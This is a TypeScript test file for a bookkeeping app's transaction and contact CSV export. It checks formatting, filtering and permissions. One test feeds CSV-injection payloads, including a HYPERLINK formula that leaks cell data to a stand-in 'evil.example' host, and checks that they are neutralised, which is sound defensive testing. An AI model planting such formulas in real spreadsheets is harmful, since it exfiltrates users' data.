import { describe, expect, it } from 'vitest';
import { BusinessRole, CONTACT_EXPORT_HEADINGS, TRANSACTION_EXPORT_HEADINGS } from '@bk/domain';
import { api } from '../support/api-client';
import { seedMembership, seedUser } from '../support/seed';
import { seedSession } from './business-support';
import { BLANK_CONTACT, exportedRows, newBusiness, seedTransactions } from './csv-export-support';
import { addAccount, addTx } from './ledger-support';

/**
 * SPEC §2 "Export transactions" and "Export contacts", §7 POST transaction/export and contact/export,
 * §9 headings and file names: the CSV through the local gateway, as the browser gets it. The large
 * export through storage and the round trip through the import are in csv-export-storage.test.ts
 * and csv-round-trip.test.ts.
 */

const YEAR = { startDate: '2026-01-01', endDate: '2026-12-31' };

describe('transaction export', () => {
  it('writes the import headings, DD/MM/YYYY dates, exact pence, names, BOM and CRLF, oldest first', async () => {
    const { token } = await newBusiness();
    const main = await addAccount(token, 'Main account', true);
    const acme = await api(token).ok('contactCreate', {
      body: { ...BLANK_CONTACT, name: 'Acme, "The" Bakers' },
    });
    const sale = await addTx(token, {
      date: '2026-01-15',
      desc: 'Cakes, invoice 7',
      transactionTypeId: 1,
      categoryId: 'sales',
      amount: 1234567.89,
      netAmount: 1028806.58,
      accountId: main,
      vatRateId: 'standard',
      contactId: acme.id,
    } as Parameters<typeof addTx>[1]);
    const fuel = await addTx(token, {
      date: '2026-01-10',
      desc: 'Fuel',
      transactionTypeId: 1,
      categoryId: 'fuel',
      amount: -12.5,
      accountId: main,
      vatRateId: 'standard',
    });
    const refund = await addTx(token, {
      date: '2026-03-02',
      desc: 'Insurance £ refund',
      transactionTypeId: 1,
      categoryId: 'insurance',
      amount: 0.01,
      accountId: main,
      vatRateId: 'exempt',
      isRefund: true,
    });

    const out = await api(token).ok('transactionExport', { body: YEAR });

    expect(out).toMatchObject({ fileName: 'export-2026-01-01-to-2026-12-31-all-accounts.csv', rows: 3 });
    expect(out.downloadUrl).toBeNull();
    // What the ledger stored (the sign rules of SPEC §5 apply on the way in), to the penny.
    expect([fuel.amount, fuel.netAmount, sale.amount, sale.netAmount, refund.amount]).toEqual([
      -12.5,
      null,
      1234567.89,
      1028806.58,
      0.01,
    ]);
    expect(exportedRows(out.csv)).toEqual([
      [...TRANSACTION_EXPORT_HEADINGS],
      ['10/01/2026', 'Fuel', '-12.50', '', '20', 'Fuel', '', 'Business', '', 'No', 'Main account'],
      [
        '15/01/2026',
        'Cakes, invoice 7',
        '1234567.89',
        '1028806.58',
        '20',
        'Sales',
        'Acme, "The" Bakers',
        'Business',
        '',
        'No',
        'Main account',
      ],
      [
        '02/03/2026',
        'Insurance £ refund',
        '0.01',
        '',
        'Exempt',
        'Business insurance',
        '',
        'Business',
        '',
        'Yes',
        'Main account',
      ],
    ]);
    // Quoted only where RFC 4180 needs it: the amount is a bare number.
    expect(out.csv).toContain('\r\n10/01/2026,Fuel,-12.50,,20,Fuel,,Business,,No,Main account\r\n');
    expect(out.csv).toContain(',"Acme, ""The"" Bakers",');
  });

  it('keeps to the date range (both ends included) and to the account, and names the file as asked', async () => {
    const { token } = await newBusiness();
    const main = await addAccount(token, 'Main', true);
    const savings = await addAccount(token, 'Rainy Day Savings');
    await addTx(token, { date: '2025-12-31', desc: 'Before', transactionTypeId: 1, amount: 1, accountId: main });
    await addTx(token, { date: '2026-01-01', desc: 'First day', transactionTypeId: 1, amount: 2, accountId: main });
    await addTx(token, { date: '2026-06-30', desc: 'Saved', transactionTypeId: 1, amount: 3, accountId: savings });
    await addTx(token, { date: '2026-12-31', desc: 'Last day', transactionTypeId: 1, amount: 4, accountId: main });
    await addTx(token, { date: '2027-01-01', desc: 'After', transactionTypeId: 1, amount: 5, accountId: main });
    const descs = (csv: string | null) =>
      exportedRows(csv)
        .slice(1)
        .map((r) => r[1]);

    const all = await api(token).ok('transactionExport', { body: YEAR });
    expect(descs(all.csv)).toEqual(['First day', 'Saved', 'Last day']);

    const mainOnly = await api(token).ok('transactionExport', {
      body: { ...YEAR, bankAccountId: main, fileName: 'export-this-year-main.csv' },
    });
    expect(descs(mainOnly.csv)).toEqual(['First day', 'Last day']);
    expect(mainOnly).toMatchObject({ fileName: 'export-this-year-main.csv', rows: 2 });

    const saved = await api(token).ok('transactionExport', { body: { ...YEAR, bankAccountId: savings } });
    expect(saved.fileName).toBe('export-2026-01-01-to-2026-12-31-rainy-day-savings.csv');
    expect(exportedRows(saved.csv).slice(1)).toEqual([
      ['30/06/2026', 'Saved', '3.00', '', expect.any(String), '', '', 'Business', '', 'No', 'Rainy Day Savings'],
    ]);

    const none = await api(token).ok('transactionExport', { body: { startDate: '2030-01-01', endDate: '2030-01-31' } });
    expect(exportedRows(none.csv)).toEqual([[...TRANSACTION_EXPORT_HEADINGS]]);
    expect(none.rows).toBe(0);
  });

  it('neutralises text a spreadsheet would run, while a negative amount stays a number (OWASP CSV Injection)', async () => {
    const { token, businessId } = await newBusiness();
    const main = await addAccount(token, 'Main', true);
    const attacks = ['=HYPERLINK("http://evil.example/?"&A1,"Refund")', '+1', '-2', '@SUM(A1:A9)', '\tTab', '\rCR'];
    await seedTransactions(
      businessId,
      main,
      attacks.map((desc, i) => ({ date: `2026-02-0${i + 1}`, desc, amount: -200 })),
    );

    const out = await api(token).ok('transactionExport', { body: YEAR });

    const rows = exportedRows(out.csv).slice(1);
    expect(rows.map((r) => r[1])).toEqual(attacks.map((a) => `'${a}`));
    expect(rows.map((r) => r[2])).toEqual(attacks.map(() => '-2.00'));
    expect(out.csv).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""Refund"")",-2.00,`);
    expect(out.csv).toContain(`,"'-2",-2.00,`);
    for (const line of (out.csv ?? '').split('\r\n')) expect(line).not.toMatch(/(^|,)[=+\-@\t\r][^0-9]/);
  });

  it('lets a viewer export, and shows no other business anything of it', async () => {
    const owner = await newBusiness('Owner Bakery');
    const main = await addAccount(owner.token, 'Main', true);
    await addTx(owner.token, {
      date: '2026-05-05',
      desc: 'Owner sale',
      transactionTypeId: 1,
      amount: 9,
      accountId: main,
    });
    const viewer = await seedUser();
    await seedMembership(owner.businessId, viewer.userId, viewer.email, BusinessRole.OTHER);
    const viewerToken = await seedSession(viewer.userId, owner.businessId);

    const seen = await api(viewerToken).ok('transactionExport', { body: YEAR });
    expect(
      exportedRows(seen.csv)
        .slice(1)
        .map((r) => r[1]),
    ).toEqual(['Owner sale']);

    // Another business's session exports its own (empty) ledger, and cannot name the owner's account.
    const other = await newBusiness('Other Bakery');
    const theirs = await api(other.token).ok('transactionExport', { body: YEAR });
    expect(theirs.rows).toBe(0);
    const named = await api(other.token).call('transactionExport', { body: { ...YEAR, bankAccountId: main } });
    expect(named.status).toBe(400);
    expect(named.error.errors).toEqual([
      { field: 'bankAccountId', message: 'This bank account no longer exists. Choose another account and try again.' },
    ]);
    expect((await api(null).call('transactionExport', { body: YEAR })).status).toBe(401);
    // A session on a business the user is not a member of is refused by the permission check.
    const outsider = await seedSession(viewer.userId, other.businessId);
    expect((await api(outsider).call('transactionExport', { body: YEAR })).status).toBe(403);
  });

  it('refuses an end date before the start date on the end date field', async () => {
    const { token } = await newBusiness();
    const reply = await api(token).call('transactionExport', {
      body: { startDate: '2026-02-01', endDate: '2026-01-31' },
    });
    expect(reply.status).toBe(400);
    expect(reply.error.errors).toEqual([
      { field: 'endDate', message: 'The end date must be on or after the start date' },
    ]);
  });
});

describe('contact export', () => {
  it('writes every contact by name under the import column types, as export-contacts.csv', async () => {
    const { token } = await newBusiness();
    await api(token).ok('contactCreate', {
      body: {
        ...BLANK_CONTACT,
        name: 'Zed Flour Mills',
        email: 'orders@zed.example',
        phone: '+44 113 496 0000',
        mobile: '07700 900123',
        address: '1 Mill Lane\nLeeds\nLS1 1AA',
        website: 'https://zed.example',
        twitterHandle: '@zedflour',
        facebookProfile: 'zedflour',
        linkedinProfile: 'zed-flour',
        otherSocials: 'Instagram: zed',
        vrn: 'GB123456789',
      },
    });
    await api(token).ok('contactCreate', { body: { ...BLANK_CONTACT, name: '=1+2' } });
    await api(token).ok('contactCreate', { body: { ...BLANK_CONTACT, name: 'Acme Eggs' } });

    const out = await api(token).ok('contactExport');

    expect(out).toMatchObject({ fileName: 'export-contacts.csv', rows: 3, downloadUrl: null });
    expect(exportedRows(out.csv)).toEqual([
      [...CONTACT_EXPORT_HEADINGS],
      ["'=1+2", '', '', '', '', '', '', '', '', '', ''],
      ['Acme Eggs', '', '', '', '', '', '', '', '', '', ''],
      [
        'Zed Flour Mills',
        'orders@zed.example',
        "'+44 113 496 0000",
        '07700 900123',
        '1 Mill Lane\nLeeds\nLS1 1AA',
        'https://zed.example',
        "'@zedflour",
        'zedflour',
        'zed-flour',
        'Instagram: zed',
        '123456789',
      ],
    ]);
  });

  it('lets a viewer export contacts, and another business sees none of them', async () => {
    const owner = await newBusiness('Contacts Owner');
    await api(owner.token).ok('contactCreate', {
      body: { ...BLANK_CONTACT, name: 'Only Mine' },
    });
    const viewer = await seedUser();
    await seedMembership(owner.businessId, viewer.userId, viewer.email, BusinessRole.OTHER);
    const viewerToken = await seedSession(viewer.userId, owner.businessId);
    expect(exportedRows((await api(viewerToken).ok('contactExport')).csv).slice(1)).toEqual([
      ['Only Mine', '', '', '', '', '', '', '', '', '', ''],
    ]);
    const other = await newBusiness('Contacts Other');
    expect((await api(other.token).ok('contactExport')).rows).toBe(0);
  });
});
